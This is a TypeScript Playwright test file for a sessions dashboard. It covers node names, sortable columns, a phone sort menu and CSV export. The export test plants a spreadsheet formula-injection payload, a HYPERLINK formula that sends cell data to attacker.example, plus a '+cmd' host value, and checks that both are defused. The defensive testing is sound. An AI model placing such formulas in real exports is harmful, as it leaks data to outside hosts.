// The sessions table's columns in a real browser: nodes named by host name (and a nodes page that lists
// them), sorting by a column header (both ways, kept in the address, followed live) or, on a phone,
// by the sort menu, and a CSV export of exactly the current filter in the table's order, with what
// clients reported written as text a spreadsheet will not run.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { after, before, describe, test } from 'node:test';
import type { Browser, Page } from 'playwright-core';
import { request } from '../helpers/http.ts';
import { closeSession, openSession } from '../helpers/ingest.ts';
import type { TestServer } from '../helpers/server.ts';
import { openBody } from '../helpers/sessions.ts';
import { ROWS, WAIT_MS, signIn, skipWithoutChromium, startDashboardTest, waitForRows, type DashboardTest } from './browser.ts';

const skip = skipWithoutChromium();

/** The user names in the table's rows, top to bottom. */
const shownNames = (page: Page) => page.locator(`${ROWS} .col-user`).allInnerTexts();

/** Splits CSV text (RFC 4180: quoted fields may hold commas, quotes and line breaks) into rows of fields. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') field += text[++i];
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += c;
  }
  return rows;
}

describe('dashboard table: node names, sorting and CSV export', { skip }, () => {
  let dashboard: DashboardTest;
  let server: TestServer;
  let browser: Browser;
  let page: Page;
  const ids: Record<string, number> = {};

  before(async () => {
    dashboard = await startDashboardTest();
    ({ server, browser, page } = dashboard);
    // Opened in an order that is neither alphabetical nor its reverse.
    for (const [name, clientType] of [
      ['Zoe Zimmer', 'web'],
      ['Amy Adler', 'representative'],
      ['mia Moreau', 'web'],
      ['Bob Brandt', 'web'],
      ['Émile Éclair', 'push_agent'],
    ] as const) {
      ids[name] = await openSession(
        server,
        openBody({
          user: { id: name.toLowerCase().replaceAll(' ', '-'), name, type: 'staff' },
          clientType,
          hostname: `${name.split(' ')[0]}-pc`,
        }),
      );
    }
    await waitForRows(page, Object.values(ids));
  });

  after(async () => {
    await dashboard?.close();
  });

  test('nodes are named by their host name, and the nodes page lists each with role, version, uptime and sessions', async () => {
    const answer = await request(server.url, 'GET', '/v1/nodes', { headers: server.admin });
    assert.equal(answer.status, 200, answer.text);
    const [node] = answer.json.nodes as Array<{ id: string; hostname: string; role: string; version: string }>;
    assert.ok(node);
    await page.waitForFunction(
      (name) => document.querySelector(`.sessions-panel tbody tr[data-id] .col-node`)?.textContent === name,
      node.hostname,
      {
        timeout: WAIT_MS,
      },
    );
    assert.match((await page.locator(`${ROWS} .col-node`).first().getAttribute('title')) ?? '', new RegExp(node.id));
    await page.getByRole('link', { name: 'Nodes', exact: true }).click();
    const row = page.locator(`table.nodes tbody tr[data-id="${node.id}"]`);
    await row.waitFor({ timeout: WAIT_MS });
    const text = await row.innerText();
    for (const part of [node.hostname, 'this node', node.role, node.version, node.id])
      assert.ok(text.includes(part), `the row shows ${part}: ${text}`);
    assert.match(await row.locator('.col-count').innerText(), /^5$/);
    assert.match(await row.locator('.col-uptime').innerText(), /^\d+ (s|min)$/);
    // The count follows the stream.
    const extra = await openSession(server, openBody({ user: { id: 'extra', name: 'Extra Person', type: 'staff' } }));
    await page.waitForFunction(
      (id) => document.querySelector(`table.nodes tbody tr[data-id="${id}"] .col-count`)?.textContent === '6',
      node.id,
      {
        timeout: WAIT_MS,
      },
    );
    await closeSession(server, extra);
    await row.locator('.col-count a').click();
    await page.waitForFunction((id) => location.hash === `#/sessions?node=${id}`, node.id, { timeout: WAIT_MS });
    await waitForRows(page, Object.values(ids));
    await page.getByRole('button', { name: 'Clear filters' }).click();
  });

  test('a column header sorts the table both ways, in the address, and a new session lands in its place', async () => {
    const userHeader = page.locator('.sessions-panel th.col-user');
    await userHeader.getByRole('button').click();
    await page.waitForSelector('.sessions-panel .vtable[data-sort="user"][aria-busy="false"]', { timeout: WAIT_MS });
    assert.deepEqual(await shownNames(page), ['Amy Adler', 'Bob Brandt', 'Émile Éclair', 'mia Moreau', 'Zoe Zimmer']);
    assert.equal(await userHeader.getAttribute('aria-sort'), 'ascending');
    assert.match(page.url(), /#\/sessions\?sort=user$/);

    await userHeader.getByRole('button').click();
    await page.waitForSelector('.sessions-panel .vtable[data-sort="-user"]', { timeout: WAIT_MS });
    await page.waitForFunction(
      () => document.querySelector('.sessions-panel tbody tr[data-id] .col-user')?.textContent === 'Zoe Zimmer',
      undefined,
      {
        timeout: WAIT_MS,
      },
    );
    assert.equal(await userHeader.getAttribute('aria-sort'), 'descending');
    assert.deepEqual(await shownNames(page), ['Zoe Zimmer', 'mia Moreau', 'Émile Éclair', 'Bob Brandt', 'Amy Adler']);

    // Live, in order: Carl goes between Émile and Bob (descending); an ended session leaves.
    ids['Carl Cole'] = await openSession(
      server,
      openBody({ user: { id: 'carl-cole', name: 'Carl Cole', type: 'staff' }, hostname: 'carl-pc' }),
    );
    await page.waitForFunction(
      () =>
        Array.from(document.querySelectorAll('.sessions-panel tbody tr[data-id] .col-user'), (td) => td.textContent).join('|') ===
        'Zoe Zimmer|mia Moreau|Émile Éclair|Carl Cole|Bob Brandt|Amy Adler',
      undefined,
      { timeout: WAIT_MS },
    );
    await closeSession(server, ids['Carl Cole']);
    delete ids['Carl Cole'];
    await waitForRows(page, Object.values(ids));
    assert.deepEqual(await shownNames(page), ['Zoe Zimmer', 'mia Moreau', 'Émile Éclair', 'Bob Brandt', 'Amy Adler']);

    // The order survives a reload (it is in the address), with a filter beside it.
    await page.getByLabel('Client type', { exact: true }).selectOption('web');
    await page.waitForFunction(() => location.hash === '#/sessions?type=web&sort=-user', undefined, { timeout: WAIT_MS });
    await page.reload();
    await waitForRows(page, [ids['Zoe Zimmer']!, ids['mia Moreau']!, ids['Bob Brandt']!]);
    assert.deepEqual(await shownNames(page), ['Zoe Zimmer', 'mia Moreau', 'Bob Brandt']);

    // The id header goes back to the API's own order, and the address forgets the sort.
    await page.locator('.sessions-panel th.col-id').getByRole('button').click();
    await page.waitForSelector('.sessions-panel .vtable[data-sort="id"]', { timeout: WAIT_MS });
    assert.match(page.url(), /#\/sessions\?type=web$/);
    await page.getByRole('button', { name: 'Clear filters' }).click();
    await waitForRows(page, Object.values(ids));
  });

  test('on a phone the cards sort by the sort menu', async () => {
    const phone = await browser.newPage({ viewport: { width: 390, height: 844 } });
    try {
      await signIn(phone, server.url);
      await waitForRows(phone, Object.values(ids));
      assert.equal(await phone.locator('.sessions-panel thead').isVisible(), false, 'cards have no header row');
      await phone.getByLabel('Sort by').selectOption('user');
      await phone.waitForSelector('.sessions-panel .vtable[data-sort="user"][aria-busy="false"]', { timeout: WAIT_MS });
      assert.deepEqual(await shownNames(phone), ['Amy Adler', 'Bob Brandt', 'Émile Éclair', 'mia Moreau', 'Zoe Zimmer']);
    } finally {
      await phone.close();
    }
  });

  test('Export CSV saves every session of the current filter, in the table order, with formulas defused', async () => {
    const hostile = '=HYPERLINK("http://attacker.example/?"&A1,"click")';
    ids.hostile = await openSession(
      server,
      openBody({ user: { id: 'hostile', name: hostile, type: 'staff' }, clientType: 'web', hostname: '+cmd' }),
    );
    await waitForRows(page, Object.values(ids));
    await page.getByLabel('Client type', { exact: true }).selectOption('web');
    await page.locator('.sessions-panel th.col-user').getByRole('button').click();
    await page.waitForSelector('.sessions-panel .vtable[data-sort="user"][aria-busy="false"]', { timeout: WAIT_MS });
    const [download] = await Promise.all([
      page.waitForEvent('download', { timeout: WAIT_MS }),
      page.getByRole('button', { name: 'Export CSV' }).click(),
    ]);
    assert.match(download.suggestedFilename(), /^rollcall-sessions-\d{4}-\d\d-\d\dT\d\d-\d\d-\d\dZ\.csv$/);
    const text = readFileSync((await download.path())!, 'utf8');
    assert.ok(text.endsWith('\r\n'), 'records end with CRLF');
    const [header, ...rows] = parseCsv(text);
    assert.deepEqual(header!.slice(0, 5), ['session_id', 'user_id', 'user_name', 'user_type', 'client_type']);
    const column = (name: string) => header!.indexOf(name);
    // Sorted by user name like the table (the formula's "=" sorts first); only web sessions.
    assert.deepEqual(
      rows.map((r) => r[column('user_name')]),
      [`'${hostile}`, 'Bob Brandt', 'mia Moreau', 'Zoe Zimmer'],
    );
    assert.ok(rows.every((r) => r[column('client_type')] === 'Web'));
    const hostileRow = rows.find((r) => r[column('user_id')] === 'hostile')!;
    assert.equal(hostileRow[column('host')], "'+cmd");
    assert.match(hostileRow[column('started_at')]!, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
    assert.equal(hostileRow[column('session_id')], String(ids.hostile));
    const nodes = await request(server.url, 'GET', '/v1/nodes', { headers: server.admin });
    assert.equal(hostileRow[column('node_name')], nodes.json.nodes[0].hostname);

    // In id order (nothing held in memory) the export fetches the filter's pages itself.
    await page.locator('.sessions-panel th.col-id').getByRole('button').click();
    await page.waitForSelector('.sessions-panel .vtable[data-sort="id"]', { timeout: WAIT_MS });
    const [again] = await Promise.all([
      page.waitForEvent('download', { timeout: WAIT_MS }),
      page.getByRole('button', { name: 'Export CSV' }).click(),
    ]);
    const [, ...byId] = parseCsv(readFileSync((await again.path())!, 'utf8'));
    assert.deepEqual(
      byId.map((r) => Number(r[0])),
      [ids['Zoe Zimmer'], ids['mia Moreau'], ids['Bob Brandt'], ids.hostile],
    );
    await page.getByRole('button', { name: 'Clear filters' }).click();
    assert.deepEqual(dashboard.errors, [], 'the page logged no errors');
  });
});
